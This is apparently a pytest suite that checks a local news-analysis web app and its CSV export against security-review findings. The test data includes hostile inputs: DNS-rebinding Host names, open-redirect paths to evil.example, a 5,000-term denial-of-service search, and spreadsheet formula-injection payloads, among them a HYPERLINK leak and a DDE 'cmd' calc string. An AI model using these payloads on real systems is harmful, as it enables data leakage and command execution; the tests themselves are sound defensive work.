"""Hardening of the web app and the CSV export against what a security review found.

Each test meets the defect as an attacker or a careless user would: a real `storyline serve` on
127.0.0.1 over a real store, real SQLite, the real CLI. Found: thousands of search words tied up a
server thread for minutes (and kept it from stopping on SIGTERM), a NUL in a filter gave a 500,
Host names that merely start like 127.x passed the DNS-rebinding guard, HEAD answered 405, the
token redirect could point off-site, and the CSV export carried article text into spreadsheets as
formulas.
"""

from __future__ import annotations

import contextlib
import csv
import json
import re
import signal
import sqlite3
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import httpx
import pytest
from conftest import cli
from webserver import build_store, serving, serving_process

from storyline.store import browse
from storyline.web import security  # by attribute, so each test fails on its own against older code

# prefixes found in nearly every demo document, so that all of them together still match
PREFIXES = "a b c d e f h i k l m n o p r s t w th an in re co to on wa sa de fo se ru u v st of ha mo tr ta".split()


def heavy_query(n: int) -> str:
    """n search terms, each a prefix that matches hundreds of words in every document. FTS5's
    snippet() cost grows with the square of the number of such phrases: before the fix 200 of them
    took 1.2 s on the 15-document demo store, 5,000 took minutes."""
    return " ".join(PREFIXES[i % len(PREFIXES)] + "*" for i in range(n))


HEAVY = heavy_query(5000)


def _timed_get(url: str, **params: str) -> tuple[int, float, str]:
    start = time.monotonic()
    r = httpx.get(url, params=params, timeout=30)
    return r.status_code, time.monotonic() - start, r.text


# --- 1 and 7: search cost is bounded --------------------------------------------------------------
def test_fts_query_keeps_at_most_max_terms_distinct_terms() -> None:
    words = " ".join(f"w{i}" for i in range(100))
    assert browse.fts_query(words).split() == [f'"w{i}"' for i in range(32)] and browse.MAX_TERMS == 32
    assert browse.fts_query("sea sea  sea*") == '"sea" "sea"*'  # a repeat matches nothing more
    assert browse.fts_query("a\x00b\x1fc") == '"a" "b" "c"'  # control characters separate words


def test_search_page_says_the_query_was_cut(demo_url: str) -> None:
    status, _, html = _timed_get(demo_url + "/search", q=heavy_query(60))
    assert status == 200
    assert 'id="cut"' in html and "only the first 32 were searched for" in html


def test_5000_term_search_answers_fast_and_server_stays_responsive(demo_url: str) -> None:
    """Four 5,000-term searches at once, and a plain page meanwhile and after: each search answers
    in under 3 s and the plain page in under 1 s (before the fix one such search ran for minutes)."""
    results: list[tuple[int, float, str]] = []
    threads = [
        threading.Thread(target=lambda: results.append(_timed_get(demo_url + "/search", q=HEAVY))) for _ in range(4)
    ]
    for t in threads:
        t.start()
    time.sleep(0.1)
    status, plain, _ = _timed_get(demo_url + "/")
    for t in threads:
        t.join(30)
    assert status == 200 and plain < 1.0, plain
    assert len(results) == 4 and all(s == 200 and dt < 3.0 for s, dt, _ in results), [r[:2] for r in results]
    assert all('id="cut"' in html for _, _, html in results)
    assert all(re.search(r"<h2>Documents \(([1-9]\d*)\)</h2>", html) for _, _, html in results)  # a real search ran
    for path, param in (("/quotes", "speaker"), ("/entities", "q"), ("/timeline", "actor")):
        status, dt, _ = _timed_get(demo_url + path, **{param: HEAVY})
        assert status == 200 and dt < 3.0, (path, status, dt)
    status, after, _ = _timed_get(demo_url + "/documents")
    assert status == 200 and after < 1.0


def test_server_exits_promptly_on_sigterm_during_heavy_searches(demo_db: Path) -> None:
    """uvicorn waits for requests in flight before it exits: they must end within the budget."""
    with serving_process(demo_db) as (base, proc):
        threads = [threading.Thread(target=_quietly_get, args=(base + "/search", HEAVY)) for _ in range(4)]
        for t in threads:
            t.start()
        time.sleep(0.3)
        start = time.monotonic()
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(5)
        except subprocess.TimeoutExpired:
            pytest.fail("storyline serve still running 5 s after SIGTERM")
        assert time.monotonic() - start < 5
        for t in threads:
            t.join(10)


def _quietly_get(url: str, q: str) -> None:
    with contextlib.suppress(httpx.HTTPError):  # the server going away under the request is the point
        httpx.get(url, params={"q": q}, timeout=10)


def test_time_budget_stops_a_query_inside_sqlite_and_is_removed_after(demo_db: Path) -> None:
    conn = sqlite3.connect(f"file:{demo_db}?mode=ro", uri=True)
    slow = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) SELECT SUM(i) FROM n"
    start = time.monotonic()
    with pytest.raises(browse.QueryTooSlow), browse.time_budget(conn, 0.2):
        conn.execute(slow, (10**9,)).fetchone()  # minutes of work without the budget
    assert time.monotonic() - start < 1.0
    # the connection is reused by the next page on this thread: no deadline may be left behind
    start = time.monotonic()
    assert conn.execute(slow, (1_500_000,)).fetchone()[0] == 1_500_000 * 1_500_001 // 2
    with browse.time_budget(conn, 0.001):
        pass
    time.sleep(0.01)
    assert conn.execute(slow, (1_000_000,)).fetchone()[0] > 0
    # any other SQLite error is not a timeout
    with pytest.raises(sqlite3.OperationalError, match="no such table"), browse.time_budget(conn, 5):
        conn.execute("SELECT * FROM no_such_table")


def test_free_text_pages_past_their_budget_answer_200_with_a_note(demo_db: Path) -> None:
    """With a budget of 0 s a query is stopped the first time SQLite's progress handler runs, which
    is every 1,000 VM steps of one statement: each of these requests runs a statement longer than
    that on the demo store. The page answers 200 with its form and a note, and the next pages on
    the same threads (their connections are reused) run unbudgeted."""
    stopped = {"/search": {"q": "the"}, "/quotes": {"speaker": "e"}, "/entities": {"q": "e"},
               "/timeline": {"actor": "a"}}  # fmt: skip
    with serving(demo_db, env={"STORYLINE_QUERY_SECONDS": "0"}) as base:
        for _ in range(2):
            for path, params in stopped.items():
                status, _, html = _timed_get(base + path, **params)
                assert status == 200 and 'id="stopped"' in html, (path, status)
                assert "took longer than 0 s and was stopped" in html
                assert 'class="filters"' in html  # the form is there to narrow the filter
                for plain in ("/", path, "/documents", "/claims"):
                    status, _, html = _timed_get(base + plain)
                    assert status == 200 and 'id="stopped"' not in html, (plain, status)


# --- 2: control characters in free text ------------------------------------------------------------
@pytest.mark.parametrize(
    "path",
    ["/search?q=%00", "/search?q=put%00in%01", "/quotes?speaker=%00", "/entities?q=%00", "/timeline?actor=%00",
     "/documents?outlet=%00", "/quotes?outlet=%00&speaker=a%0Db", "/claims?measure=%00", "/search?q=%7F%C2%9F"],
)  # fmt: skip
def test_control_characters_in_a_query_give_a_readable_page(demo_url: str, path: str) -> None:
    r = httpx.get(demo_url + path, timeout=10)
    assert r.status_code == 200, r.text[:300]
    assert "\x00" not in r.text and "<h1>" in r.text


# --- 3: the DNS-rebinding guard ---------------------------------------------------------------------
REBINDING_HOSTS = ["127.evil.com", "127.0.0.1.nip.io", "127.attacker.example", "[::1].evil.com", "127.0.0.1@evil.com",
                   "localhost.evil.com", "evil.com#127.0.0.1", "127.0.0.1:80@evil.com", "127.1", "0x7f.0.0.1",
                   "127.0.0.1:0", "127.0.0.1:65536", "127.0.0.1:", "127.0.0.1:8O", "[::1", "::1", "[::1%25lo]",
                   "127.0.0.1 ", "localhost.", "127.0.0.\uff11", "attacker.example", ""]  # fmt: skip


@pytest.mark.parametrize("host", REBINDING_HOSTS)
def test_host_names_that_only_look_local_are_refused(host: str) -> None:
    assert not security.host_header_is_loopback(host)


def test_loopback_server_answers_only_exact_local_host_names(demo_url: str) -> None:
    port = urlsplit(demo_url).port
    for host in ["127.evil.com", "127.0.0.1.nip.io", "127.attacker.example", "[::1].evil.com", "127.0.0.1@evil.com"]:
        r = httpx.get(demo_url + "/", headers={"Host": host}, timeout=10)
        assert r.status_code == 400, host
    for host in ["127.0.0.1", f"127.0.0.1:{port}", "localhost", f"LocalHost:{port}", f"[::1]:{port}", "127.8.9.10"]:
        r = httpx.get(demo_url + "/", headers={"Host": host}, timeout=10)
        assert r.status_code == 200, host


def test_bind_address_is_loopback_by_the_same_exact_rule() -> None:
    """`storyline serve --host` asks is_loopback whether it may run without a token."""
    assert all(security.is_loopback(h) for h in ("127.0.0.1", "127.0.0.2", "localhost", "::1", "[::1]"))
    assert not any(
        security.is_loopback(h) for h in ("127.evil.com", "127.0.0.1.nip.io", "0.0.0.0", "::", "[::1].x", "")
    )


# --- 4: HEAD ------------------------------------------------------------------------------------------
def test_every_page_answers_head_like_get(demo_url: str, demo_db: Path) -> None:
    c = sqlite3.connect(f"file:{demo_db}?mode=ro", uri=True)
    doc = c.execute("SELECT id FROM documents LIMIT 1").fetchone()[0]
    entity = c.execute("SELECT id FROM entities LIMIT 1").fetchone()[0]
    paths = ["/", "/timeline", "/entities", "/documents", "/quotes", "/claims", "/stories", "/search?q=talks",
             f"/doc/{doc}", f"/entity/{entity}", "/doc/nope", "/static/app.css", "/vendor/htmx.min.js",
             "/entities?page=0"]  # fmt: skip
    for path in paths:
        get = httpx.get(demo_url + path, timeout=10)
        head = httpx.head(demo_url + path, timeout=10)
        assert head.status_code == get.status_code, (path, head.status_code, get.status_code)
        assert head.content == b""
        for name in ("content-type", "content-length", "content-security-policy"):
            assert head.headers.get(name) == get.headers.get(name), (path, name)


# --- 5: the token redirect --------------------------------------------------------------------------
@pytest.mark.parametrize(
    "path", ["//evil.example/x", "/\\evil.example/x", "/%2F%2Fevil.example/x", "///evil.example", "/%5Cevil.example",
             "/%5C%5Cevil.example", "/%09/evil.example", "/%20//evil.example"],
)  # fmt: skip
def test_token_redirect_stays_on_this_server(token_url: str, path: str) -> None:
    r = httpx.get(token_url + path + "?token=s3cret-tok&type=call", timeout=10)
    assert r.status_code == 303
    location = r.headers["location"]
    # a browser reads a backslash as a slash, and "//host" as another site
    assert location.startswith("/") and not location.replace("\\", "/").startswith("//"), location
    assert urlsplit(urljoin(token_url + "/a/b", location)).netloc == urlsplit(token_url).netloc
    assert location.endswith("?type=call")


@pytest.fixture(scope="module")
def token_url(demo_db: Path) -> Iterator[str]:
    with serving(demo_db, "--token", "s3cret-tok", host="0.0.0.0") as base:
        yield base


# --- 6: CSV formula injection -----------------------------------------------------------------------
FORMULA_ROW = {
    "title": '=HYPERLINK("https://evil.example/?leak","Geneva talks")',
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "date": "2025-03-04",
    "text": "Negotiators met in Geneva on 3 March 2025.\n\n"
    "\u201c=SUM(1+1) is the answer to everything,\u201d said Vladimir Putin on Monday.\n\n"
    "\u201c@everyone we made real progress today,\u201d Sergei Lavrov told reporters.\n\n"
    "Prices fell by -5 percent, officials said.",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_export_writes_formula_text_as_text(tmp_path: Path) -> None:
    (tmp_path / "f.jsonl").write_text(json.dumps(FORMULA_ROW) + "\n", encoding="utf-8")
    db = build_store([tmp_path / "f.jsonl"], tmp_path / "f.db")
    code, output = cli("export", "--db", db, "--format", "csv", "--output", tmp_path / "csv")
    assert code == 0, output
    tables = {}
    for f in (tmp_path / "csv").glob("*.csv"):
        with f.open(encoding="utf-8", newline="") as fh:
            tables[f.stem] = list(csv.DictReader(fh))
    for name, rows in tables.items():
        for row in rows:
            for col, cell in row.items():  # only a number written as a number may start with "-"
                assert not cell.startswith(FORMULA_START) or _is_number(cell), (name, col, cell)
    doc = tables["documents"][0]
    assert doc["title"] == "'" + FORMULA_ROW["title"] and doc["outlet"] == "'" + FORMULA_ROW["source"]
    quotes = sorted(q["text"] for q in tables["quotes"])
    assert "'=SUM(1+1) is the answer to everything," in quotes and "'@everyone we made real progress today," in quotes
    # numbers stay numbers: offsets, and a negative figure
    assert all(q["start"].isdigit() and q["end"].isdigit() for q in tables["quotes"])
    assert [c["value"] for c in tables["claims"]] == ["-5.0"]
    # the JSON export is for programs and keeps the text exactly
    code, output = cli("export", "--db", db, "--format", "json", "--output", tmp_path / "d.json")
    assert code == 0, output
    dossier = json.loads((tmp_path / "d.json").read_text(encoding="utf-8"))
    assert dossier["documents"][0]["title"] == FORMULA_ROW["title"]
